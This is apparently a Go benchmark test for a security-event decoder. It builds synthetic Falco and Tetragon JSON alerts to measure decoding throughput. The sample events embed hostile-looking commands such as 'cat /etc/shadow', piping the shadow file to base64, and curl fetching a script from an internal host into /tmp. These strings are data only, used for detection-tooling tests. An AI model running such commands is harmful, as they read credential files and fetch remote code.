package proc

import (
	"bytes"
	"fmt"
	"sync"
	"testing"
	"time"

	"github.com/kubedelta/kubedelta/internal/event"
)

// benchDecode decodes input b.N times with one long-lived decoder (as a
// server or CLI run would) and reports events per second, by wall clock
// and per CPU second (on a shared machine wall time mostly measures the
// neighbours).
func benchDecode(b *testing.B, format Format, input []byte) {
	b.Helper()
	d := NewDecoder(Options{Format: format})
	var n int64
	sink := func(e *event.Exec) error {
		n += int64(len(e.Args))
		return nil
	}
	b.SetBytes(int64(len(input)))
	b.ReportAllocs()
	b.ResetTimer()
	start, cpu0 := time.Now(), cpuTime()
	for i := 0; i < b.N; i++ {
		if err := d.Decode(bytes.NewReader(input), "bench", sink); err != nil {
			b.Fatal(err)
		}
	}
	elapsed, cpu := time.Since(start), cpuTime()-cpu0
	st := d.Stats()
	if st.Rejected != 0 || st.Delivered == 0 {
		b.Fatalf("bench input: %s %v", statsLine(st), st.Errors)
	}
	b.ReportMetric(float64(st.Records)/elapsed.Seconds(), "events/s")
	if cpu > 0 {
		b.ReportMetric(float64(st.Records)/cpu.Seconds(), "events/cpu-s")
	}
	b.ReportMetric(float64(len(input))/float64(st.Records/int64(b.N)), "bytes/event")
	_ = n
}

const benchRecords = 20_000

// BenchmarkDecodeFalco: Falco alerts of the size a default rule with
// container and Kubernetes fields produces (about 1.3 KB), 200 pods.
func BenchmarkDecodeFalco(b *testing.B) { benchDecode(b, FormatFalco, falcoInput()) }

var falcoInput = sync.OnceValue(func() []byte {
	var buf bytes.Buffer
	for i := 0; i < benchRecords; i++ {
		ts := time.Date(2024, 5, 1, 12, 0, 0, 0, time.UTC).Add(time.Duration(i) * 1237 * time.Microsecond)
		pod, ns := fmt.Sprintf("web-7d4b9c6f5-%05d", i%200), fmt.Sprintf("team-%d", i%12)
		cmd := []string{"sh -c id", "cat /etc/shadow", "curl -s http://10.0.0.9:8080/x.sh -o /tmp/x", "python3 /app/report.py --since '2024-04-30 00:00'"}[i%4]
		name := cmd[:bytes.IndexByte([]byte(cmd+" "), ' ')]
		fmt.Fprintf(&buf, `{"hostname":"ip-10-0-%d-%d.ec2.internal","output":"%s: Notice A shell was spawned in a container with an attached terminal | evt_type=execve user=root user_uid=0 user_loginuid=-1 process=%s proc_exepath=/usr/bin/%s parent=runc command=%s terminal=34816 exe_flags=EXE_WRITABLE container_id=3ad7b26ded6d container_name=web container_image_repository=docker.io/library/nginx container_image_tag=1.25.4 k8s_pod_name=%s k8s_ns_name=%s","priority":"Notice","rule":"Terminal shell in container","source":"syscall","tags":["T1059","container","maturity_stable","mitre_execution","shell"],"time":"%s","output_fields":{"container.id":"3ad7b26ded6d","container.image.repository":"docker.io/library/nginx","container.image.tag":"1.25.4","container.name":"web","evt.arg.flags":"EXE_WRITABLE","evt.time":%d,"evt.type":"execve","k8s.ns.name":"%s","k8s.pod.name":"%s","proc.cmdline":"%s","proc.cwd":"/","proc.exepath":"/usr/bin/%s","proc.name":"%s","proc.pid":%d,"proc.pname":"runc","proc.tty":34816,"user.loginuid":-1,"user.name":"root","user.uid":0}}`+"\n",
			i%16, i%250, ts.Format("15:04:05.000000000"), name, name, cmd, pod, ns, ts.Format(time.RFC3339Nano), ts.UnixNano(), ns, pod, cmd, name, name, 40000+i%20000)
	}
	return buf.Bytes()
})

// BenchmarkDecodeTetragon: process_exec events with pod, labels and a
// parent carrying its own pod block (about 2.3 KB, like the documented
// example), one process_exit in four.
func BenchmarkDecodeTetragon(b *testing.B) { benchDecode(b, FormatTetragon, tetragonInput()) }

var tetragonInput = sync.OnceValue(func() []byte {
	var buf bytes.Buffer
	for i := 0; i < benchRecords; i++ {
		ts := time.Date(2024, 5, 1, 12, 0, 0, 0, time.UTC).Add(time.Duration(i) * 1237 * time.Microsecond)
		podBlock := fmt.Sprintf(`{"namespace":"team-%d","name":"web-7d4b9c6f5-%05d","container":{"id":"containerd://3ad7b26ded6d1f7e0c2b8a9d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f%04d","name":"web","image":{"id":"docker.io/library/nginx@sha256:0f4e7b8c2d1a3e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2e3f4a5b6c7d8e9f","name":"docker.io/library/nginx:1.25.4"},"start_time":"2024-05-01T09:12:40Z","pid":1},"pod_labels":{"app.kubernetes.io/name":"web","pod-template-hash":"7d4b9c6f5","tier":"frontend"},"workload":"web","workload_kind":"Deployment"}`,
			i%12, i%200, i%200)
		kind := "process_exec"
		if i%4 == 3 {
			kind = "process_exit"
		}
		args := []string{"-s -H \"Authorization: Bearer x\" http://10.0.0.9:8080/x.sh", "-c \"cat /etc/shadow | base64\"", "/app/report.py --since \"2024-04-30 00:00\"", "-la /tmp"}[i%4]
		fmt.Fprintf(&buf, `{"%s":{"process":{"exec_id":"aXAtMTAtMC0xMi0zNDoxMzU0ODY3NDMyMTM3Mzo1MjY5OQ==","pid":%d,"uid":%d,"cwd":"/","binary":"/usr/bin/curl","arguments":"%s","flags":"execve rootcwd","start_time":"%s","auid":4294967295,"pod":%s,"docker":"3ad7b26ded6d1f7e0c2b8a9d4e5f607","parent_exec_id":"aXAtMTAtMC0xMi0zNDoxMzU0ODY3MDg4MzI5OTo1MjY5OQ==","tid":%d},"parent":{"exec_id":"aXAtMTAtMC0xMi0zNDoxMzU0ODY3MDg4MzI5OTo1MjY5OQ==","pid":%d,"uid":0,"cwd":"/","binary":"/bin/bash","arguments":"-c \"curl https://ebpf.io/applications/#tetragon\"","flags":"execve rootcwd clone","start_time":"%s","auid":4294967295,"pod":%s,"docker":"3ad7b26ded6d1f7e0c2b8a9d4e5f607","parent_exec_id":"aXAtMTAtMC0xMi0zNDoxMzU0ODY0NTI0NTgzOTo1MjY4OQ==","tid":%d}},"node_name":"ip-10-0-%d-%d.ec2.internal","time":"%s"}`+"\n",
			kind, 50000+i%10000, i%3*500, jsonEscape(args), ts.Format(time.RFC3339Nano), podBlock, 50000+i%10000, 49000+i%10000, ts.Add(-time.Millisecond).Format(time.RFC3339Nano), podBlock, 49000+i%10000, i%16, i%250, ts.Format(time.RFC3339Nano))
	}
	return buf.Bytes()
})

func jsonEscape(s string) string {
	return string(bytes.ReplaceAll([]byte(s), []byte(`"`), []byte(`\"`)))
}
